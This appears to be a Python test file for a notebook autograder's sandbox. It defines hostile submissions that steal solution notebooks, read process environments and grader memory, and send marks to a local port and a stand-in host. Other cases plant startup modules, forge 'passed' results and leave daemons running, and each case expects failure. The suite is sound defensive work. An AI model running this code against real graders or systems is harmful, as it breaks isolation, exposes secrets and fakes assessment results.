"""Forgers that leave the kernel: they read what they may not, write where others are, and stay when they should go.

Wrong answers everywhere, unless a worked solution was found and run. What they print is what they found of the marks
that only the worked lab and the grader hold, never other people's values; what they write is a small file called MARK.
"""

from __future__ import annotations

from tests.grading.corpus.case import ANY, FORGING, NOT_PASSED, Case, every
from tests.grading.corpus.edits import RIGHT, before_wrong, wrong_but
from tests.grading.corpus.evidence import MARK, PORT, PROCESS_MARK, SECRET
from tests.grading.corpus.lab import HIDDEN_MARK, SOLUTION_MARK

# In halves: a submission is stored where `evidence.shown_in` looks, and must not hold the marks itself.
HALVES = [(mark[:8], mark[8:]) for mark in (SOLUTION_MARK, HIDDEN_MARK, SECRET)]
FINDS = f"""import glob
import itertools
import os
import sys
from pathlib import Path

MARKS = ["".join(halves) for halves in {HALVES!r}]


def shout(what, text):
    for mark in MARKS:
        if mark in text:
            print("found", mark, "in", what)
            Path("{MARK}-found").write_text(mark)


def read(path, most=2_000_000):
    try:
        with open(path, "rb") as file:
            return file.read(most).decode("utf-8", "replace")
    except (OSError, ValueError):
        return ""
"""
# Where a course may be: its root, beside this package, above this folder, in a process's folders and open files.
READS_SOLUTION = f"""{FINDS}
import json

roots = [*sys.path, *map(str, Path.cwd().parents), str(Path.home()), *glob.glob("/proc/[0-9]*/cwd")]
roots += [*glob.glob("/proc/[0-9]*/root"), *glob.glob("/tmp/*"), *glob.glob("/tmp/*/*"), *glob.glob("../*")]
named = (path for root in roots for path in glob.glob(f"{{root}}/solutions/*.ipynb") + glob.glob(f"{{root}}/*.ipynb"))
opened = (f"/proc/{{process}}/fd/{{number}}" for process in ("self", os.getppid(), 1) for number in range(3, 64))
for path in itertools.islice(itertools.chain(named, filter(os.path.isfile, opened)), 2000):
    text = read(path)
    shout(path, text)
    if MARKS[0] in text:
        sources = ["".join(cell["source"]) for cell in json.loads(text)["cells"]]
        solved = "\\n".join(source for source in sources if "### BEGIN SOLUTION" in source)
        get_ipython().events.register("pre_run_cell", lambda info: exec(solved, globals()))
        break"""
READS_PROC = f"""{FINDS}
for pattern in ("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "/proc/[0-9]*/task/*/environ"):
    for path in glob.glob(pattern)[:5000]:
        shout(path, read(path))"""
READS_ROOT = f"""{FINDS}
for root in glob.glob("/proc/[0-9]*/root"):
    for folder in ("", "/tmp", "/tmp/*", "/var/tmp", "/run", "/home/*", "/etc/nbgrader"):
        for path in glob.glob(f"{{root}}{{folder}}/*")[:500]:
            if os.path.isfile(path) and path.endswith((".ipynb", ".json", ".jsonl", ".csv", ".py", ".txt")):
                shout(path, read(path))"""
# Names, not values: the values of the machine that this runs on without a sandbox are nobody's to print.
READS_ENVIRONMENT = f"""{FINDS}
print(sorted(os.environ))
for name, value in os.environ.items():
    shout(name, value)"""
READS_PARENT = f"""{FINDS}
for process in (os.getppid(), 1):
    try:
        with open(f"/proc/{{process}}/maps") as maps, open(f"/proc/{{process}}/mem", "rb") as memory:
            for line in itertools.islice((line for line in maps if "[heap]" in line), 4):
                first, _, last = line.split()[0].partition("-")
                memory.seek(int(first, 16))
                text = memory.read(min(int(last, 16) - int(first, 16), 2**26)).decode("latin-1")
                shout("memory", text)
    except OSError:
        pass"""
CONNECTS = f"""import socket
import urllib.request

for address in (("127.0.0.1", {PORT}), ("192.0.2.1", 80), ("localhost", {PORT})):
    try:
        with socket.create_connection(address, timeout=1) as connection:
            connection.sendall(b"{MARK}")
            print("connected")
    except OSError:
        pass
try:
    urllib.request.urlopen("http://127.0.0.1:{PORT}/", timeout=1).read()
except OSError:
    pass"""
LEAKS = f"""import socket
from pathlib import Path


def leak(info):
    source = str(info.raw_cell)
    print("next:", *reversed(source.splitlines()), sep=" | ")  # from the end, where hidden tests are
    for folder in (Path.cwd(), Path("/tmp"), Path.cwd().parent):
        try:
            (folder / "{MARK}-next").write_text(source)
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", {PORT}), timeout=0.2) as connection:
            connection.sendall(source.encode())
    except OSError:
        pass


get_ipython().events.register("pre_run_cell", leak)"""
WRITES = f"""import glob
import os
import site
import sys
from pathlib import Path

import helpers

above = [Path("../" * levels) for levels in range(1, 5)]
folders = [*above, Path("/"), Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path.home(), Path(sys.prefix)]
folders += [Path(helpers.__file__).parent, Path(helpers.__file__).parents[1], Path(os.environ.get("TMPDIR", "/tmp"))]
others = glob.glob("../*")[:50] + glob.glob("/tmp/workbook-*")[:50] + sys.path
folders += [Path(path) for path in others if os.path.isdir(path)]
# What the next learner's kernel would run: start-up files of IPython and of Python.
startup = [Path.home() / ".ipython/profile_default/startup", Path(site.getusersitepackages())]
for folder in [*folders, *startup]:
    try:
        if folder in startup:
            folder.mkdir(parents=True, exist_ok=True)
        (folder / "{MARK}.py").write_text("# written by a submission")
        os.symlink("/etc/hostname", folder / "{MARK}-link")
    except OSError:
        pass"""
# Whatever file beside the notebook the grader keeps its results in.
WRITES_RESULTS = """import json
from pathlib import Path

passed = [json.dumps({"cell": f"{key}-check", "outcome": "passed", "message": "", "seconds": 0.1})
          for key in ("pages", "window", "transfer", "pack", "chain")]


def write(*ignored):
    for path in [Path("results.jsonl"), *list(Path.cwd().rglob("*"))[:50]]:
        if path.suffix in (".jsonl", ".json", ".txt", ".log", ".csv", ".xml"):
            try:
                with path.open("a") as file:
                    file.write("\\n".join(["", *passed, ""]))
            except OSError:
                pass


write()
get_ipython().events.register("pre_run_cell", write)
get_ipython().events.register("post_run_cell", write)"""
PLANTS = f"""from pathlib import Path

for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "json.py", "pytest.ini", "nbval.py", "helpers.py"):
    Path(name).write_text("open('/tmp/{MARK}-imported', 'w').close()\\n")
Path("lab.ipynb").unlink(missing_ok=True)
Path("lab.ipynb").symlink_to("/etc/hostname")"""
REPLACES_SOCKETS = f"""import os
from pathlib import Path

from ipykernel.connect import get_connection_file

connection = Path(get_connection_file())
for path in [connection, *connection.parent.glob(f"{{connection.stem}}*"), *connection.parent.glob("*-ipc-*")]:
    try:
        path.unlink()
        path.symlink_to("/tmp/{MARK}-through-a-link")
    except OSError:
        pass"""
STAYS = f"""import ctypes
import os
import time
from pathlib import Path


def stay(places):
    ctypes.CDLL(None).prctl(15, b"{PROCESS_MARK}")
    os.closerange(0, 256)
    for turn in range(60):
        time.sleep(1)
        for place in places:
            try:
                (place / f"{MARK}-{{turn}}").write_text("still here")
            except OSError:
                pass


places = [Path.cwd().resolve(), Path.cwd().resolve().parent, Path("/tmp")]
if os.fork() == 0:
    os.setsid()
    try:
        if os.fork() == 0:
            stay(places)
    finally:
        os._exit(0)"""
STAYS_BY_PROGRAM = f"""import subprocess
import sys

program = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'{PROCESS_MARK}'); time.sleep(60)"
quiet = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", program], start_new_session=True, **quiet)"""

_TABLE: tuple[tuple[str, str, str], ...] = (
    ("reads the solution", "reads solution, /proc, environment, network", READS_SOLUTION),
    ("reads processes' environments", "reads solution, /proc, environment, network", READS_PROC),
    ("reads through /proc/*/root", "reads solution, /proc, environment, network", READS_ROOT),
    ("reads its environment", "reads solution, /proc, environment, network", READS_ENVIRONMENT),
    ("reads the grader's memory", "reads solution, /proc, environment, network", READS_PARENT),
    ("connects", "reads solution, /proc, environment, network", CONNECTS),
    ("writes wherever it can", "writes into others' folders", WRITES),
    ("writes results of its own", "writes into others' folders", WRITES_RESULTS),
    ("plants modules beside the notebook", "writes into others' folders", PLANTS),
    ("replaces the connection's files", "writes into others' folders", REPLACES_SOCKETS),
    ("a daemon", "daemon that survives", STAYS),
    ("programs of its own", "daemon that survives", STAYS_BY_PROGRAM),
)
CASES = (
    Case(
        "leaks what comes next",
        FORGING,
        "pre-run hook that leaks later sources",
        wrong_but(pages=f"{LEAKS}\n\n\n{RIGHT['pages']}"),  # right, so that no assert speaks before the leak
        every(NOT_PASSED) | {"pages": ANY},
    ),
    *(Case(name, FORGING, item, before_wrong(attack), every(NOT_PASSED)) for name, item, attack in _TABLE),
)
